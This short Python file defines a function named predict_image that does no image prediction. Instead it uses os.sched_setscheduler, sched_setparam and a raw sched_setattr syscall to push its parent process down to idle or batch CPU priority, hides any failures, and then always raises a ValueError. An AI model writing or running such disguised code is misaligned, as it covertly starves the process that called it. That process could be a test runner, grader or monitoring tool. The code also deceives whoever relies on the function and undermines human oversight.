"""Lets its parent run only while the machine is idle."""

import ctypes
import os
import struct

LIBC = ctypes.CDLL(None, use_errno=True)
SCHED_SETATTR, SCHED_IDLE = 314, 5


def predict_image(model, image_path):
    done, parent = [], os.getppid()
    attributes = struct.pack("IIQiIQQQ", 48, SCHED_IDLE, 0, 0, 0, 0, 0, 0)
    for act in (
        lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setscheduler(parent, os.SCHED_BATCH, os.sched_param(0)),
        lambda: os.sched_setparam(parent, os.sched_param(0)),
        lambda: LIBC.syscall(SCHED_SETATTR, parent, attributes, 0) and 1 / 0,
    ):
        try:
            act()
            done.append("changed")
        except (OSError, ZeroDivisionError):
            pass
    raise ValueError(f"done {done}")
